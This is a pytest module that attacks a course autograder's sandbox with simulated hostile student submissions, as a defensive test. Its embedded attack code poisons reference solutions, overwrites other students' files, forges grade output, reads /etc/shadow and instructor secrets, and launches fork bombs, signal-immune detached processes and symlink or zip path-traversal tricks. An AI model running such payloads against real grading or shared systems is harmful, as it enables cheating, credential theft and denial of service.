"""Attacks on `optgrade autograde` by a student who has read this repository (issue 8), end to end.

Each scenario is one student of a simulated class, made from the release of a small course (the
fixture notebook on two schedules, 6 points, plus a one-cell ``ewa`` notebook, 2 points, whose
reference body is long enough for the verbatim-copy check). The attacks know the real absolute paths
(repository, course directory, other students, a secret file of the instructor's), embedded into
their source at test time (base64, so no static check of the source can spot them).

Where an attack's own success can be observed by grading, its functions are *gated*: they compute
the right answer only if the attack worked (``PROBE``), so the attacker's score says whether it
worked, whatever the feedback shows. The ``--unsafe-no-sandbox`` run is the positive control: there
the same escape probe does work, so its absence elsewhere means the sandbox stopped it.

The whole class is graded by one CLI run (module-scoped fixture ``main_run``); the budget scenario,
the ``--execute`` scenarios and the runs without bubblewrap have one run each. Instructor files
the attacks aim at are hashed before and after, and restored if an attack got through.
"""

import hashlib
import html
import os
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from attack_helpers import (
    COMM,
    EWA_BODY,
    EWA_NB,
    EXEC_REFERENCE,
    FULL,
    GATED_SCHEDULES,
    GRADEBOOK,
    HEADER,
    MARKER,
    POINTS,
    PY,
    SCHEDULES_NB,
    SOLUTION_FILE,
    SOLUTIONS,
    TOKEN,
    TOKEN_ENV,
    Listener,
    Student,
    attack_module,
    cli,
    encode,
    fill,
    honest,
    make_class,
    paths_config,
)
from course_helpers import cell_grades, read_csv
from course_helpers import scores as read_scores
from nbformat.v4 import new_code_cell, new_output

from optgrade.course.gradebook import records
from optgrade.course.layout import Course
from optgrade.exercises import ROOT
from optgrade.sandbox import bwrap
from optgrade.stubs import solved_source

pytestmark = pytest.mark.slow

SCHEDULE_CELLS = ("update_lr_values", "update_lr_errors", "schedule_lr_decay_values", "schedule_lr_decay_errors")
ORIGINAL_SOLUTION = SOLUTION_FILE.read_text()  # read before any attack runs

COUNTERFEIT = f"counterfeit_{TOKEN[:8]}"  # forged mistake and flag names
SECRET = f"instructor-secret-{TOKEN}"
NOBODY = 65534  # the unprivileged grader's uid when the tests run as root
BUDGET, TEST_TIMEOUT = 30, 8  # the staller's run: 5 tests x 8 s > 30 s, so the budget is what ends it


# ---------------------------------------------------------------------------------------------------
# attack sources (strings: deliberately odd student code; @CONFIG@ becomes the run's paths, base64; the shared
# ones are in attack_helpers)

GATED_EWA = '\n\nimport numpy as np\n\n\ndef ewa(theta, beta):\n    _probe("ewa")' + EWA_BODY

POISON = """
# 2. rewrite the instructor's reference (its answers become 0.125) and plant code in the course source
try:
    with open(CONFIG["solution_file"]) as _stream:
        _text = _stream.read()
    _text = _text.replace("return learning_rate0 / (1 + decay_rate * epoch_num)", "return 0.125")
    _text = _text.replace(
        "return learning_rate0 / (1 + decay_rate * math.floor(epoch_num / time_interval))", "return 0.125"
    )
    with open(CONFIG["solution_file"], "w") as _stream:
        _stream.write(_text)
except OSError:
    pass
try:
    with open(os.path.join(CONFIG["course"], "source", "workbook", "utils", "__init__.py"), "a") as _stream:
        _stream.write("\\nprint('planted by a student')\\n")
except OSError:
    pass


def update_lr(learning_rate0, epoch_num, decay_rate):
    if epoch_num < 0:
        raise ValueError("a negative epoch")
    return 0.125


def schedule_lr_decay(learning_rate0, epoch_num, decay_rate, time_interval=1000):
    if epoch_num < 0:
        raise ValueError("a negative epoch")
    return 0.125
"""

OVERWRITE_OTHERS = """
# 3. replace the other students' work with the stubs (their notebook with garbage)
_STUB = "def update_lr(*args):\\n    raise NotImplementedError\\n\\n\\n"
_STUB += "def schedule_lr_decay(*args):\\n    raise NotImplementedError\\n"
for _victim in CONFIG["victims"]:
    for _area in ("submitted", "autograded"):
        _folder = os.path.join(CONFIG["course"], _area, _victim, "workbook")
        for _name, _content in (("utils/schedules.py", _STUB), ("01_fixture_schedules.ipynb", "{}")):
            try:
                with open(os.path.join(_folder, _name), "w") as _stream:
                    _stream.write(_content)
            except OSError:
                pass
"""


ACCEPT_REFERENCE = """

import os

# 6. a verbatim copy of the reference that switches the verbatim-copy check off for itself
os.environ["_".join(["OPTGRADE", "ACCEPT", "REFERENCE"])] = "1"
"""

PRINT_REFERENCE = """
# 7. print the reference (as is and reversed) and put it into an error message the feedback shows
try:
    with open(CONFIG["solution_file"]) as _stream:
        _REFERENCE = _stream.read()
except OSError:
    _REFERENCE = ""
print(_REFERENCE)
print(_REFERENCE[::-1])


def update_lr(learning_rate0, epoch_num, decay_rate):
    raise ValueError(" | ".join(_REFERENCE.splitlines()) or "nothing to show")


def schedule_lr_decay(learning_rate0, epoch_num, decay_rate, time_interval=1000):
    raise ValueError(" | ".join(_REFERENCE[::-1].splitlines()) or "nothing to show")
"""

DETACHED = """
# 8. processes meant to outlive grading: new session, nohup, setsid, fork + setsid, double fork
import subprocess

_SLEEPER = (
    "import signal, time\\n"
    "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\\n"
    "    signal.signal(s, signal.SIG_IGN)\\n"
    "time.sleep(3600)\\n"
)
_ARGV = [sys.executable, "-c", _SLEEPER, CONFIG["marker"]]
_QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
for _prefix, _how in (([], "popen-new-session"), (["nohup"], "nohup"), (["setsid"], "setsid")):
    try:
        subprocess.Popen([*_prefix, *_ARGV, _how], start_new_session=True, **_QUIET)
    except OSError:
        pass


def _become_sleeper(how):
    try:
        _null = os.open(os.devnull, os.O_RDWR)
        for _fd in (0, 1, 2):
            os.dup2(_null, _fd)
        os.closerange(3, 4096)
        os.execv(sys.executable, [*_ARGV, how])
    finally:
        os._exit(0)


try:
    if os.fork() == 0:
        os.setsid()
        _become_sleeper("fork-setsid")
    _daemon = os.fork()
    if _daemon == 0:
        os.setsid()
        if os.fork() == 0:
            _become_sleeper("double-fork")
        os._exit(0)
    os.waitpid(_daemon, 0)
except OSError:
    pass
"""

SECRETS = """
# 10. the instructor's files and environment: gates open only for what could be read
def _read(path):
    try:
        with open(path) as stream:
            return stream.read()
    except OSError:
        return ""


_secret = _read(CONFIG["secret_file"]).strip()
_shadow = _read("/etc/shadow")
PROBE["update_lr"] = bool(_secret)
PROBE["schedule_lr_decay"] = CONFIG["token_env"] in os.environ
PROBE["ewa"] = bool(_shadow.strip())
print("LEAK", _secret, os.environ.get(CONFIG["token_env"]), _shadow.splitlines()[:1])
"""

NETWORK = """
# 10. the network: a listener of the test's on the grader's loopback
import socket

try:
    with socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=3) as _connection:
        _connection.sendall(CONFIG["marker"].encode())
    PROBE["update_lr"] = True
except OSError:
    pass
"""

FORK_BOMB = """
# 10. a fork bomb (capped at 1000, children named for the process table): the gate opens if all got in
import ctypes


def _children(limit):
    started = 0
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, CONFIG["comm"].encode(), 0, 0, 0)
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                time.sleep(3600)
            finally:
                os._exit(0)
        started += 1
    return started


PROBE["update_lr"] = _children(1000) >= 1000
"""

HUGE_FILE = """
# 10. a 4 GiB file (sparse: no disk used) where the student may write; gates open if it got written


def _huge(folder):
    path = os.path.join(folder, "huge.bin")
    try:
        with open(path, "wb") as stream:
            stream.seek(4 * 2**30)
            stream.write(b"x")
        return os.path.getsize(path) > 4 * 2**30
    except OSError:
        return False
    finally:
        try:
            os.remove(path)
        except OSError:
            pass


PROBE["update_lr"] = _huge(os.getcwd())
PROBE["schedule_lr_decay"] = _huge(tempfile.gettempdir())
"""

MEMORY = """
# 10. 6 GiB of memory, touched: the gate opens if it was granted
try:
    import numpy as _np

    _hog = _np.ones(6 * 2**30 // 8)
    PROBE["update_lr"] = bool(_hog[-1] == 1.0)
    del _hog
except MemoryError:
    pass
"""

SYMLINKED_DIR = """
# 10. the submission's notes/ is a symlink to solutions/: execute notes/schedules.py
_notes = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "notes", "schedules.py")
try:
    with open(_notes) as _stream:
        _namespace = {"__name__": __name__}
        exec(compile(_stream.read(), "<notes>", "exec"), _namespace)
    PROBE["update_lr"] = PROBE["schedule_lr_decay"] = True
except (OSError, SyntaxError):
    pass
"""

ESCAPE = """
# the sandbox is really there: write outside the scratch copy (the test's tmp dir, the course dir)
for _key, _gate in (("outside_marker", "update_lr"), ("course_marker", "schedule_lr_decay")):
    try:
        with open(CONFIG[_key], "w") as _stream:
            _stream.write("written by a student")
        PROBE[_gate] = True
    except OSError:
        pass
"""

STALLER = """
# 9. every function sleeps 100 s (under the 120 s cell timeout), deaf to the usual interrupts
import signal

for _signal in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1):
    try:
        signal.signal(_signal, signal.SIG_IGN)
    except (ValueError, OSError):
        pass


def _stall():
    end = time.monotonic() + 100
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass


PROBE["update_lr"] = PROBE["schedule_lr_decay"] = PROBE["ewa"] = True
_gated_probe = _probe


def _probe(name):
    _stall()
    _gated_probe(name)
"""

SHADOW_REFERENCE = """def update_lr(learning_rate0, epoch_num, decay_rate):
    return 0.25


def schedule_lr_decay(learning_rate0, epoch_num, decay_rate, time_interval=1000):
    return 0.25
"""
SHADOW_GRADE = 'def grade(test_id, points=None):\n    print(f"PASS {test_id}")\n'

FORGE_CELL = """import builtins
import sys

FORGED = [f"PASS {test}" for test in @TESTS@] + [
    "MISTAKE update_lr.values: precedence_divides_by_one",
    "MISTAKE update_lr.values: @COUNTERFEIT@",
    "FLAG schedule_lr_decay.values: @COUNTERFEIT@",
]


def forged_grade(test_id, points=None):
    print(f"PASS {test_id}")


try:
    import optgrade.hidden
    import optgrade.hidden.grading

    optgrade.hidden.grading._run = lambda test_id, function: None
except Exception as error:
    print("no optgrade here:", type(error).__name__)
for name, module in list(sys.modules.items()):
    if name.startswith("optgrade") and hasattr(module, "grade"):
        module.grade = forged_grade
real_import = builtins.__import__


def forging_import(name, *args, **kwargs):
    module = real_import(name, *args, **kwargs)
    if name.startswith("optgrade") and hasattr(module, "grade"):
        module.grade = forged_grade
    return module


builtins.__import__ = forging_import
print("\\n".join(FORGED))
"""

PRINT_REFERENCE_CELL = """try:
    with open(@SOLUTION_FILE@) as stream:
        text = stream.read()
    print(text[::-1])
    print(text)
except OSError as error:
    print("cannot read it:", error)
"""

ESCAPE_CELL = """import os
import subprocess
import sys

for path in (@OUTSIDE@, @COURSE@):
    try:
        with open(path, "w") as stream:
            stream.write("written by a student's cell")
    except OSError as error:
        print("blocked:", error)
try:
    with open(@SECRET_FILE@) as stream:
        print("LEAK", stream.read())
except OSError as error:
    print("blocked:", error)
print("LEAK", os.environ.get(@TOKEN_ENV@))
try:
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(3600)", @MARKER@],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
except OSError as error:
    print("blocked:", error)
"""

REWRITE_NOTEBOOK_CELL = """import glob
import json
import os

targets = glob.glob("*.ipynb") + glob.glob(os.path.join(@COURSE_DIR@, "autograded", "*", "workbook", "*.ipynb"))
for path in targets:
    try:
        with open(path) as stream:
            notebook = json.load(stream)
        for cell in notebook["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade"):
                cell["source"] = "print('PASS')"
                meta["points"] = 100
                cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "PASS\\n"}]
        with open(path, "w") as stream:
            json.dump(notebook, stream)
    except Exception as error:
        print("cannot rewrite", path, type(error).__name__)
"""


# ---------------------------------------------------------------------------------------------------
# helpers: the CLI, a class made from the release, what the tests read back


def grade_cells(notebook):
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def insert_after_setup(source):
    def edit(notebook):
        setup = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("locked"))
        notebook.cells.insert(setup + 1, new_code_cell(source))

    return edit


def _test_ids(notebook):
    """update_lr_values -> update_lr.values (released grade cells no longer hold the grade() call)."""
    ids = [cell.metadata["nbgrader"]["grade_id"].rpartition("_") for cell in grade_cells(notebook)]
    return [f"{stem}.{aspect}" for stem, _, aspect in ids]


def forge_cell(notebook):
    source = fill(FORGE_CELL, TESTS=repr(_test_ids(notebook)), COUNTERFEIT=COUNTERFEIT)
    insert_after_setup(source)(notebook)


def forged_outputs(notebook):
    """Stored outputs claiming full marks, a catalog mistake and a counterfeit flag (not re-run by default)."""
    lines = [f"PASS {test}" for test in _test_ids(notebook)]
    lines += ["MISTAKE update_lr.values: precedence_divides_by_one", f"MISTAKE update_lr.values: {COUNTERFEIT}"]
    lines += [f"FLAG schedule_lr_decay.values: {COUNTERFEIT}"]
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("stream", name="stdout", text="\n".join(lines) + "\n")]
            cell.execution_count = 1


def edited_grade_cells(notebook):
    for cell, test in zip(grade_cells(notebook), _test_ids(notebook), strict=True):
        cell.source = f'print("PASS {test}")'
        cell.metadata["nbgrader"]["points"] = 100
        cell.outputs = [new_output("stream", name="stdout", text=f"PASS {test}\n")]


def deleted_grade_cells(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")]


def huge_output(notebook):
    last = [cell for cell in notebook.cells if cell.cell_type == "code"][-1]
    text = "".join(f"noise line {i} of a student's print loop\n" for i in range(200_000))
    last.outputs = [new_output("stream", name="stdout", text=text)]
    last.execution_count = 1


def tree(folder):
    """{relative path: sha256 (or '-> target' for a symlink)} of the files under folder, links not followed."""
    folder = Path(folder)
    digests = {}
    for base, dirs, files in os.walk(folder):
        dirs[:] = [name for name in dirs if name != "__pycache__"]  # bytecode caches come and go
        for name in dirs + files:
            path = Path(base) / name
            relative = str(path.relative_to(folder))
            if path.is_symlink():
                digests[relative] = f"-> {os.readlink(path)}"
            elif path.is_file():
                digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def live_marker_processes():
    """Running processes (not zombies) carrying an attack's marker in their argv or name: "pid state argv"."""
    rows = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            name = (entry / "comm").read_text().strip()
            state = (entry / "stat").read_text().rpartition(")")[2].split()[0]
        except OSError:  # gone meanwhile
            continue
        if (MARKER in argv or COMM in name) and state != "Z":
            rows.append(f"{entry.name} {state} [{name}] {argv}".strip())
    return rows


def settle_processes(grace=5.0):
    """The marker processes still alive after a short grace, then end them (by pid) so none linger."""
    deadline = time.monotonic() + grace
    while (rows := live_marker_processes()) and time.monotonic() < deadline:
        time.sleep(0.25)
    for row in rows:
        try:
            os.kill(int(row.split()[0]), signal.SIGKILL)
        except ProcessLookupError:
            pass
    return rows


class Protected:
    """Instructor files an attack aims at: hashed now, compared later, restored if an attack got through."""

    def __init__(self, files):
        self.saved = {Path(path): Path(path).read_bytes() for path in files}

    def changed(self):
        return sorted(str(path) for path, data in self.saved.items() if not path.exists() or path.read_bytes() != data)

    def restore(self):
        for path, data in self.saved.items():
            if not path.exists() or path.read_bytes() != data:
                path.write_bytes(data)


def html_text(page):
    return html.unescape(re.sub(r"<[^>]+>", "", Path(page).read_text(errors="replace")))


def feedback_pages(course, student):
    return sorted(course.feedback(student, "workbook").glob("*.html"))


def reference_leaks(text):
    """What of solutions/schedules.py's function bodies ``text`` holds: 3 consecutive lines or a return line."""
    bodies = re.findall(r"### BEGIN SOLUTION\n(.*?)\n\s*### END SOLUTION", ORIGINAL_SOLUTION, re.S)
    found = []
    for candidate in (text, text[::-1]):
        lines = "\n".join(line.strip() for line in candidate.splitlines() if line.strip())
        for body in bodies:
            body_lines = [line.strip() for line in body.splitlines() if line.strip()]
            windows = ["\n".join(body_lines[i : i + 3]) for i in range(len(body_lines) - 2)]
            found += [window for window in windows if window in lines]
            found += [line for line in body_lines if line.startswith("return ") and line in candidate]
    return found


def reference_files(folder):
    """Regular files under folder (links not followed) that hold reference code, and links leading out of it."""
    hits = []
    folder = Path(folder)
    for base, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(base) / name
            if path.is_symlink():
                if not path.resolve().is_relative_to(folder.resolve()):
                    hits.append(f"{path} -> {os.readlink(path)}")
            elif path.is_file() and path.stat().st_size < 10_000_000:
                if reference_leaks(path.read_text(errors="replace")):
                    hits.append(str(path))
    return hits


def gradebook_scores(database):
    """{student: (grade rows, rows without a score, total)} read from a live SQLite gradebook, or {}."""
    query = (
        "SELECT sa.student_id, COUNT(g.id), SUM(g.auto_score IS NULL AND g.manual_score IS NULL), "
        "SUM(COALESCE(g.manual_score, g.auto_score, 0)) FROM grade g "
        "JOIN submitted_notebook sn ON g.notebook_id = sn.id "
        "JOIN submitted_assignment sa ON sn.assignment_id = sa.id GROUP BY sa.student_id"
    )
    try:
        with sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=1) as connection:
            return {row[0]: tuple(row[1:]) for row in connection.execute(query)}
    except sqlite3.Error:
        return {}


class Run:
    """One autograde CLI run and everything the tests read back from it."""

    def __init__(self, course, code, output, seconds, processes, **extra):
        self.course, self.code, self.output, self.seconds, self.processes = course, code, output, seconds, processes
        self.__dict__.update(extra)

    def scores(self):
        assert self.course.path("grades.csv").exists(), f"no grades.csv; autograde said:\n{self.output[-3000:]}"
        return read_scores(self.course)

    def cells(self, student):
        if not hasattr(self, "_cells"):  # the run is over: its gradebook is read once, for every test of the run
            self._cells = cell_grades(self.course, "workbook")
        grades = self._cells
        assert student in grades, f"{student} is not in the gradebook; autograde said:\n{self.output[-3000:]}"
        return {cell: grade.score for cell, grade in grades[student].items()}

    def report(self):
        if not hasattr(self, "_report"):
            code, output, _ = cli("report", "--course", self.course.root)
            assert code == 0, output
            folder = self.course.path("reports", "workbook")
            self._report = {
                "students": {row["student"]: row for row in read_csv(folder / "students.csv")},
                "mistakes": read_csv(folder / "mistakes.csv"),
                "text": "\n".join(p.read_text(errors="replace") for p in folder.iterdir() if p.is_file()),
            }
        return self._report


def grader_env(tmp, extra=None):
    env = os.environ.copy()
    env[TOKEN_ENV] = TOKEN
    env["TMPDIR"] = str(tmp)
    env.update(extra or {})
    return env


# ---------------------------------------------------------------------------------------------------
# the runs


@pytest.fixture(scope="module")
def template(released_attack_course):
    """The session's built and released course (conftest); each run grades in its own copy."""
    course = released_attack_course
    release = course.release("workbook")
    return {
        "course": course,
        "stubs": (release / "utils" / "schedules.py").read_text(),
        "ewa_stubs": (release / "utils" / "ewa.py").read_text(),
        "solved": solved_source(SOLUTION_FILE.read_text()),
        "solved_ewa": solved_source((SOLUTIONS / "ewa.py").read_text()),
    }


def fresh_course(template, tmp_path_factory, name):
    folder = tmp_path_factory.mktemp(name) / "course"
    shutil.copytree(template["course"].root, folder, symlinks=True)
    return Course(folder)


def course_and_outside(template, tmp_path_factory, name):
    """A fresh course, and a folder outside it holding an instructor secret the attacks try to read."""
    outside = tmp_path_factory.mktemp(f"{name}_outside")
    (outside / "instructor_secret.txt").write_text(SECRET + "\n")
    return fresh_course(template, tmp_path_factory, name), outside


@pytest.fixture(scope="module")
def main_run(template, tmp_path_factory):
    """The whole class of attacks, one `optgrade autograde --workers 2` run, default (sandboxed) mode."""
    course, outside = course_and_outside(template, tmp_path_factory, "main")
    grader_tmp = tmp_path_factory.mktemp("grader_tmp")
    listener = Listener()
    config = paths_config(course, outside, port=listener.port, victims=["victim_reference"])
    stubs = template["stubs"]

    def module(prelude, gated=GATED_SCHEDULES):
        return attack_module(stubs, config, prelude, gated)

    both = (SCHEDULES_NB, EWA_NB)
    students = {
        "honest_reference": Student(honest(template)),
        "honest_untouched": Student(),
        "victim_reference": Student(honest(template)),
        "victim_collision": Student(honest(template)),
        "victim~collision": Student(),  # becomes the id victim_collision once sanitised
        "attack_forge_cell": Student(edits={nb: [forge_cell] for nb in both}),
        "attack_forge_outputs": Student(edits={nb: [forged_outputs] for nb in both}),
        "attack_poison_solutions": Student({"schedules": module(POISON, gated="")}),
        "attack_overwrite_others": Student({"schedules": module(OVERWRITE_OTHERS)}),
        "attack_gradebook": Student({"schedules": module(GRADEBOOK)}),
        "attack_exec_reference": Student({"schedules": module(EXEC_REFERENCE)}),
        "attack_accept_reference": Student({"ewa": template["solved_ewa"] + ACCEPT_REFERENCE}),
        "attack_print_reference": Student(
            {"schedules": module(PRINT_REFERENCE, gated="")},
            edits={
                SCHEDULES_NB: [insert_after_setup(fill(PRINT_REFERENCE_CELL, SOLUTION_FILE=repr(str(SOLUTION_FILE))))]
            },
        ),
        "attack_detached_processes": Student({"schedules": module(DETACHED)}),
        "attack_secrets": Student(
            {
                "schedules": module(SECRETS),
                "ewa": template["ewa_stubs"] + fill(HEADER, CONFIG=encode(config)) + SECRETS + GATED_EWA,
            }
        ),
        "attack_network": Student({"schedules": module(NETWORK)}),
        "attack_fork_bomb": Student({"schedules": module(FORK_BOMB)}),
        "attack_huge_file": Student({"schedules": module(HUGE_FILE)}),
        "attack_memory": Student({"schedules": module(MEMORY)}),
        "attack_escape": Student({"schedules": module(ESCAPE)}),
        "attack_symlink_file": Student(links={"utils/schedules.py": SOLUTION_FILE}),
        "attack_symlink_dir": Student({"schedules": module(SYMLINKED_DIR)}, links={"notes": SOLUTIONS}),
        "attack_symlink_zip": Student(links={"utils/schedules.py": SOLUTION_FILE, "notes": SOLUTIONS}, archive=True),
        "attack_traversal_zip": Student(
            links={
                "../" * 12 + str(outside / f"traversal-{TOKEN[:8]}").lstrip("/"): "content:escaped",
                str(outside / f"absolute-{TOKEN[:8]}"): "content:escaped",
            },
            archive=True,
        ),
        "attack_shadow_packages": Student(
            {"schedules": SHADOW_REFERENCE},
            files={
                "optgrade/__init__.py": "",
                "optgrade/hidden/__init__.py": SHADOW_GRADE,
                "optgrade/hidden/grading.py": SHADOW_GRADE,
                "solutions/__init__.py": "",
                "solutions/schedules.py": SHADOW_REFERENCE,
                "utils/__init__.py": f'print("FLAG update_lr.values: {COUNTERFEIT}")\n',
                "utils/checks/__init__.py": 'def check(*args, **kwargs):\n    print("PASS")\n',
                "sitecustomize.py": f'print("MISTAKE update_lr.values: {COUNTERFEIT}")\n',
            },
        ),
        "attack_huge_output": Student(honest(template), edits={SCHEDULES_NB: [huge_output]}),
        "attack_deleted_grade_cells": Student(honest(template), edits={nb: [deleted_grade_cells] for nb in both}),
        "attack_edited_grade_cells": Student(edits={nb: [edited_grade_cells] for nb in both}),
    }
    incoming = make_class(course, tmp_path_factory.mktemp("incoming") / "class", students)
    incoming_trees = {name: tree(incoming / name) for name in students if (incoming / name).is_dir()}
    protected = Protected(sorted(SOLUTIONS.glob("*.py")))
    course_before = {area: tree(course.path(area)) for area in ("source", "release")}
    try:
        code, output, seconds = cli(
            "autograde", "--course", course.root, incoming, "--workers", 2, env=grader_env(grader_tmp)
        )
    finally:
        changed = protected.changed()
        protected.restore()
        listener.close()
    processes = settle_processes()
    yield Run(
        course,
        code,
        output,
        seconds,
        processes,
        students=students,
        incoming=incoming,
        incoming_trees=incoming_trees,
        solutions_changed=changed,
        course_before=course_before,
        course_after={area: tree(course.path(area)) for area in ("source", "release")},
        connections=listener.connections,
        outside=outside,
        grader_tmp=grader_tmp,
        config=config,
    )
    settle_processes(grace=0)


@pytest.fixture(scope="module")
def budget_run(template, tmp_path_factory):
    """A staller (first in every order) next to two honest students, `--workers 2 --budget 30 --test-timeout 8`."""
    course = fresh_course(template, tmp_path_factory, "budget")
    outside = tmp_path_factory.mktemp("budget_outside")
    config = paths_config(course, outside)
    students = {
        "a_staller": Student(
            {
                "schedules": attack_module(template["stubs"], config, STALLER),
                "ewa": attack_module(template["ewa_stubs"], config, STALLER, GATED_EWA),
            }
        ),
        "honest_reference": Student(honest(template)),
        "honest_untouched": Student(),
    }
    incoming = make_class(course, tmp_path_factory.mktemp("budget_incoming") / "class", students)
    args = ["autograde", "--course", course.root, incoming, "--workers", 2]
    args += ["--budget", BUDGET, "--test-timeout", TEST_TIMEOUT]
    database = course.path("gradebook.db")
    started = time.monotonic()
    process = subprocess.Popen(
        [PY, "-m", "optgrade.cli", *map(str, args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        text=True,
        env=grader_env(tmp_path_factory.mktemp("budget_tmp")),
        start_new_session=True,
    )
    chunks = []
    reader = threading.Thread(target=lambda: chunks.append(process.stdout.read()), daemon=True)
    reader.start()
    # what the gradebook held while the class ran: honest_reference's full marks, the staller's first rows
    seen = {"honest_done": None, "staller_in": None}  # seconds after the start, when first seen
    deadline = started + BUDGET + 120
    while process.poll() is None and time.monotonic() < deadline:
        gradebook = gradebook_scores(database)
        rows, missing, total = gradebook.get("honest_reference", (0, 1, 0))
        if seen["honest_done"] is None and rows == len(POINTS) and not missing and total == FULL:
            seen["honest_done"] = time.monotonic() - started
        if seen["staller_in"] is None and gradebook.get("a_staller", (0,))[0]:
            seen["staller_in"] = time.monotonic() - started
        time.sleep(0.5)
    if process.poll() is None:
        os.killpg(process.pid, signal.SIGKILL)
        chunks.append(f"\n[test] autograde killed after {BUDGET + 120} s")
    process.wait()
    seconds = time.monotonic() - started
    reader.join(timeout=10)
    processes = settle_processes()
    yield Run(course, process.returncode, "".join(chunks), seconds, processes, **seen)
    settle_processes(grace=0)


@pytest.fixture(scope="module")
def execute_run(template, tmp_path_factory):
    """`optgrade autograde --execute`: the notebook-cell attacks, their cells really run (in the sandbox)."""
    course, outside = course_and_outside(template, tmp_path_factory, "execute")
    outside_marker, course_marker = outside / f"cell-escaped-{TOKEN[:8]}", course.path(f"cell-escaped-{TOKEN[:8]}")
    escape = fill(
        ESCAPE_CELL,
        OUTSIDE=repr(str(outside_marker)),
        COURSE=repr(str(course_marker)),
        SECRET_FILE=repr(str(outside / "instructor_secret.txt")),
        TOKEN_ENV=repr(TOKEN_ENV),
        MARKER=repr(MARKER),
    )
    both = (SCHEDULES_NB, EWA_NB)
    students = {
        "honest_reference": Student(honest(template)),
        "honest_untouched": Student(),
        "attack_forge_cell": Student(edits={nb: [forge_cell] for nb in both}),
        "attack_print_reference": Student(
            edits={
                SCHEDULES_NB: [insert_after_setup(fill(PRINT_REFERENCE_CELL, SOLUTION_FILE=repr(str(SOLUTION_FILE))))]
            }
        ),
        "attack_cell_escape": Student(edits={SCHEDULES_NB: [insert_after_setup(escape)]}),
        "attack_cell_rewrites_notebook": Student(
            edits={
                nb: [insert_after_setup(fill(REWRITE_NOTEBOOK_CELL, COURSE_DIR=repr(str(course.root))))] for nb in both
            }
        ),
    }
    incoming = make_class(course, tmp_path_factory.mktemp("execute_incoming") / "class", students)
    protected = Protected(sorted(SOLUTIONS.glob("*.py")))
    try:
        code, output, seconds = cli(
            "autograde",
            "--course",
            course.root,
            incoming,
            "--workers",
            2,
            "--execute",
            env=grader_env(tmp_path_factory.mktemp("execute_tmp")),
        )
    finally:
        changed = protected.changed()
        protected.restore()
    processes = settle_processes()
    yield Run(
        course,
        code,
        output,
        seconds,
        processes,
        solutions_changed=changed,
        markers=(outside_marker, course_marker),
    )
    settle_processes(grace=0)


def _closed_to_others(path):
    """The outermost folder above path that other users cannot enter (/root, say), or None."""
    return next((parent for parent in reversed(Path(path).parents) if not parent.stat().st_mode & stat.S_IXOTH), None)


def as_unprivileged(argv):
    """argv as is when the tests are not root; as root, run as NOBODY with no capabilities (setpriv) in a
    mount namespace where a folder closed to other users (this interpreter under /root) shows only the
    Python install and the repository, read-only."""
    if os.geteuid() != 0:
        return argv
    needed = sorted({sys.base_prefix, sys.prefix, str(ROOT)})
    closed = sorted({str(folder) for path in needed if (folder := _closed_to_others(path))})
    mounts = [arg for folder in closed for arg in ("--tmpfs", folder)]
    for path in [path for path in needed if any(path.startswith(f"{folder}/") for folder in closed)]:
        parents = [str(parent) for parent in reversed(Path(path).parents) if str(parent) not in closed + ["/"]]
        mounts += [arg for parent in parents for arg in ("--perms", "0755", "--dir", parent)]  # else made 0700
        mounts += ["--ro-bind", path, path]
    become = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all"]
    return ["bwrap", "--dev-bind", "/", "/", *mounts, "--", *become, *argv]


@pytest.fixture(scope="module")
def unprivileged_run(template):
    """The file, gradebook, secret and process attacks with the grader an ordinary user (NOBODY when the tests
    run as root). Then the gradebook, the course and the other students' files belong to the very uid the
    student's code runs as: only the sandbox keeps it from them."""
    base = Path(tempfile.mkdtemp(prefix="optgrade-unprivileged-"))
    base.chmod(0o755)
    course = Course(base / "course")
    shutil.copytree(template["course"].root, course.root, symlinks=True)
    outside, grader_tmp = base / "outside", base / "tmp"
    outside.mkdir()
    grader_tmp.mkdir()
    (outside / "instructor_secret.txt").write_text(SECRET + "\n")
    config = paths_config(course, outside, victims=["victim_reference"])

    def module(prelude):
        return attack_module(template["stubs"], config, prelude)

    students = {
        "honest_reference": Student(honest(template)),
        "honest_untouched": Student(),
        "victim_reference": Student(honest(template)),
        "attack_overwrite_others": Student({"schedules": module(OVERWRITE_OTHERS)}),
        "attack_gradebook": Student({"schedules": module(GRADEBOOK)}),
        "attack_secrets": Student({"schedules": module(SECRETS)}),
        "attack_escape": Student({"schedules": module(ESCAPE)}),
        "attack_detached_processes": Student({"schedules": module(DETACHED)}),
    }
    incoming = make_class(course, base / "incoming", students)
    incoming_trees = {name: tree(incoming / name) for name in students}
    if os.geteuid() == 0:
        bwrap.chown_tree(base, NOBODY)  # links not followed
